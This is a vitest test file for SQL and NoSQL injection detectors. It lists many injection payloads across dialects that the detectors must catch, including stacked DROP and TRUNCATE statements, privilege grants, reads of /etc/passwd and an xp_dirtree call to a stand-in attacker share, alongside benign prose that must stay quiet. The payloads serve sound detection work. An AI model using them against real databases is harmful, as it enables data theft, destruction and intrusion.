// SQL (and NoSQL) injection detectors: evasions across dialects that must fire, and hard benign
// text (prose with quotes, SQL-ish English, code, casts in other languages) that must stay quiet.
import { describe, expect, it } from "vitest";
import { normalizeEvent } from "@/lib/pipeline/normalize.ts";
import { decode, sqlView } from "./decode.ts";
import { detectPayloads } from "./index.ts";
import { SQLI } from "./sqli.ts";

const query = (value: string) =>
  normalizeEvent({ url: { original: `/p?x=${encodeURIComponent(value)}` }, http: { request: { method: "GET" } } });
const json = (value: unknown) =>
  normalizeEvent({
    url: { original: "/api" },
    http: { request: { method: "POST", body: { content: JSON.stringify(value) } } },
  });
const sqliIds = (e: ReturnType<typeof query>) =>
  detectPayloads(e)
    .filter((d) => d.category === "sqli")
    .map((d) => d.id);

describe("SQL injection detectors", () => {
  it.each([
    // PostgreSQL casts and JSON operators
    ["sn-sqli-pg-cast", "7 AND (SELECT relname FROM pg_class LIMIT 1)::int=1"],
    ["sn-sqli-pg-cast", "abc'::integer"],
    ["sn-sqli-pg-cast", "login::int"],
    ["sn-sqli-json", '7 OR \'{"role":"x"}\'::jsonb @> \'{"role":"x"}\''],
    ["sn-sqli-json", "' OR '[\"u\",\"v\"]' ?| array['u']--"],
    ["sn-sqli-json", "' or '{\"k\":{\"m\":3}}' #>> '{k,m}' = '3"],
    ["sn-sqli-json", "9 and json_extract('{\"n\":2}','$.n')=2"],
    // Breaking out of a string and starting a new statement
    ["sn-sqli-quote-breakout", "carol@example.net';"],
    ["sn-sqli-quote-breakout", 'zz"; select @@version'],
    ["sn-sqli-quote-breakout", "abc' ;"],
    ["sn-sqli-stacked", "4; truncate table audit"],
    ["sn-sqli-stacked", "4');replace into roles (u,r) values ('me','admin');--"],
    // Dynamic SQL, routines, variables
    ["sn-sqli-routine", "DECLARE @cmd nvarchar(200); EXEC(@cmd)"],
    ["sn-sqli-routine", "begin execute immediate 'grant dba to scott'; end;"],
    ["sn-sqli-routine", "3 procedure analyse(1,1)"],
    ["sn-sqli-routine", "create function pwn(a int) returns int deterministic return a"],
    ["sn-sqli-functions", "@v:=(select pass from accounts limit 1)"],
    ["sn-sqli-functions", "exec master..xp_dirtree '\\\\attacker\\share'"],
    ["sn-sqli-functions", "1 and user()"],
    ["sn-sqli-functions", "3 and lo_import('/etc/passwd')"],
    // UNION through line comments and DISTINCTROW
    ["sn-sqli-union", "0 union#junk\ndistinctrow select 1,2"],
    ["sn-sqli-union", "0 UNION -- x\n SELECT name FROM t"],
    // Blind probes
    ["sn-sqli-time-blind", "1' and sleep(3)--"],
    ["sn-sqli-time-blind", "x' or sleep(if(1=1,2,0))#"],
    ["sn-sqli-time-blind", "1 or benchmark(5000000,md5('a'))"],
    ["sn-sqli-subquery", "0 or {fn ascii(substring((select database()),1,1))}>64"],
    [
      "sn-sqli-subquery",
      "1 and 2=(select 2 from(select count(*),concat(version(),floor(rand(0)*2))x from t group by x)y)",
    ],
    ["sn-sqli-scientific-notation", "1.e(ascii(substr(version(),1,1)))"],
    ["sn-sqli-scientific-notation", "(0.e.users)"],
    ["sn-sqli-tautology", "'p'<>'q"],
    ["sn-sqli-overflow-number", "18446744073709551615"],
    // Generic break-outs that end in a comment eating the application's closing quote
    ["sn-sqli-quote-breakout", "bob'|name--"],
    ["sn-sqli-quote-breakout", "k' collate nocase --"],
    ["sn-sqli-quote-breakout", "id'is not null#"],
    // Typographic quotes some drivers fold onto ASCII
    ["sn-sqli-tautology", "\u2019 or \u20191\u2019=\u20191"],
    // The fullwidth apostrophe becomes "'" in Windows best-fit code page conversions.
    ["sn-sqli-tautology", "1\uff07 or 1=1--"],
    ["sn-sqli-functions", "1 AND 1=UTL_INADDR.GET_HOST_ADDRESS('x.example')"],
    ["sn-sqli-stacked", "0;set @s=0x73656c656374"],
  ])("%s fires on %s", (id, payload) => {
    expect(sqliIds(query(payload))).toContain(id);
    expect(sqliIds(json({ q: payload }))).toContain(id);
  });

  it("reads MongoDB operators in bracketed parameter names and JSON keys", () => {
    const form = normalizeEvent({
      url: { original: "/login?user=bob&password[$ne]=x" },
      http: { request: { method: "GET" } },
    });
    expect(sqliIds(form)).toContain("sn-sqli-nosql-operator");
    expect(sqliIds(json({ user: "bob", password: { $gt: "" } }))).toContain("sn-sqli-nosql-operator");
    expect(sqliIds(json({ $where: "this.a == 1" }))).toContain("sn-sqli-nosql-operator");
    // Json.NET type hints and JSON Schema keywords are not query operators.
    expect(
      sqliIds(
        json({ $type: "App.Models.User, App", $schema: "https://json-schema.org/draft/2020-12/schema", $ref: "#/a" }),
      ),
    ).toEqual([]);
    expect(sqliIds(json({ $existsFlag: "yes" }))).toEqual([]);
  });

  it("finds time-based probes in the user agent", () => {
    const event = normalizeEvent({
      url: { original: "/" },
      user_agent: { original: "Mozilla/5.0 (X11) Firefox/120.0' and sleep(7)-- -" },
    });
    expect(sqliIds(event)).toContain("sn-sqli-time-blind");
  });

  it("reads the whole SQL language in the user agent, which applications log into databases", () => {
    const agent = (ua: string) => normalizeEvent({ url: { original: "/" }, user_agent: { original: ua } });
    expect(sqliIds(agent("Mozilla/5.0' UNION SELECT password FROM users-- -"))).not.toEqual([]);
    expect(sqliIds(agent("x'; DROP TABLE sessions; --"))).not.toEqual([]);
    // Real agents, odd ones included, stay quiet.
    for (const ua of [
      "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/131.0.0.0 Safari/537.36 Edg/131.0.0.0",
      "Mozilla/5.0 (iPhone; CPU iPhone OS 17_6 like Mac OS X) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/17.6 Mobile/15E148 Safari/604.1",
      "Mozilla/4.0 (compatible; MSIE 8.0; Windows NT 6.1; Trident/4.0; SLCC2; .NET CLR 2.0.50727; Media Center PC 6.0; .NET4.0C)",
      "Mozilla/5.0 (compatible; Googlebot/2.1; +http://www.google.com/bot.html)",
      "facebookexternalhit/1.1 (+http://www.facebook.com/externalhit_uatext.php)",
      "Slackbot-LinkExpanding 1.0 (+https://api.slack.com/robots)",
      "Microsoft Office/16.0 (Windows NT 10.0; Microsoft Outlook 16.0.17928; Pro)",
      "Dalvik/2.1.0 (Linux; U; Android 14; SM-S918B Build/UP1A.231005.007)",
      "MyApp/3.2.1 (com.example.app; build:4711; iOS 17.5.1) Alamofire/5.9.1",
      "okhttp/4.12.0",
      "Go-http-client/2.0",
      "python-requests/2.32.3",
      "Java/17.0.11",
      "PostmanRuntime/7.42.0",
      "libwww-perl/6.77",
      "Mozilla/5.0 (X11; Linux x86_64; rv:133.0) Gecko/20100101 Firefox/133.0",
      "WhatsApp/2.24.22.79 A",
      "Apache-HttpClient/4.5.14 (Java/17.0.12)",
      "Wget/1.21.4",
      "Prometheus/2.54.1",
    ])
      expect(sqliIds(agent(ua)), ua).toEqual([]);
  });

  it("finds overflow numbers as a whole value or a whole quoted value only", () => {
    expect(sqliIds(query("2.2250738585072011e-308"))).toContain("sn-sqli-overflow-number");
    expect(
      sqliIds(
        normalizeEvent({
          url: { original: "/x" },
          http: { request: { method: "POST", body: { content: '<r><v n="4294967296"/></r>' } } },
        }),
      ),
    ).toContain("sn-sqli-overflow-number");
    expect(sqliIds(query("(&(objectClass=group)(groupType:1.2.840.113556.1.4.803:=2147483648))"))).toEqual([]);
    expect(sqliIds(query("1700000000000"))).toEqual([]);
  });

  it.each([
    "select your plan or choose another",
    "it's a 1 or 2 day job",
    "It's 'select all' that's broken",
    'The screen is 15";',
    'Dell 27" monitor; great value',
    "var s = 'it\\'s'; delete obj.x;",
    "let t = match k { DataType::Json => 1, DataType::Int => 2 };",
    "std::string name = foo::bar();",
    "if (x == Kind::Text) { return; }",
    "fe80::1%eth0 and [2001:db8::dead]:8080",
    "x === '{\"a\":1}' ? 'yes' : 'no'",
    "we will execute immediate changes to the plan",
    "I declare @john, @mary and @sue winners",
    "each user(s) must sign",
    "appuser(sitename,user)",
    "see section 1.e(ii) and item 1.e.i of the contract",
    "Please create function keys (F1-F12) that returns nothing",
    "She said 'hi'; then left",
    "my name is 'foo'; and I work here",
    "I'm sure; select the blue one",
    "can't; update later",
    "Get-Process | Select-Object Name; Update-Help",
    "Sleep (8 hours) is important",
    "benchmark (2024) results are in",
    "i love you <3 -> forever",
    "find your solution here -> link",
    "how was your day today?",
    'd3.select("body").append("svg")',
    "Union Square # station\n select a seat",
    "Привет, как дела? 'да'; нет",
    "pick 1 or 2",
    "Use GROUP BY and HAVING COUNT(*) > 2 to find repeats",
    "tables having id = 3 rows",
    "use '-' as a separator",
    "please close the door; open it",
    "the union (select committee) met on friday",
    "Family reunion: select your seats",
    "It\u2019s \u2018select all\u2019 that\u2019s broken; don\u2019t -- ok",
    "The kids\u2019 toys are in the parents\u2019 room",
  ])("stays quiet on %s", (text) => {
    expect(sqliIds(query(text))).toEqual([]);
    expect(sqliIds(json({ comment: text }))).toEqual([]);
  });

  it("stays fast on 16 KB adversarial inputs", () => {
    for (const seed of [
      "'",
      '"',
      "'{",
      "' or ",
      "1.e",
      "::",
      "select ",
      "[$ne",
      "json_extract(",
      "or {if ",
      "(select ",
      "'; ",
      "benchmark(",
      "#\n",
    ]) {
      const decoded = decode(seed.repeat(Math.ceil(16_384 / seed.length)).slice(0, 16_384));
      const input = { field: "http.request.body.content", part: "q", raw: decoded, decoded };
      const sql = sqlView(decoded);
      const started = performance.now();
      for (const detector of SQLI) detector.match(input, sql);
      expect(performance.now() - started).toBeLessThan(100);
    }
  });
});
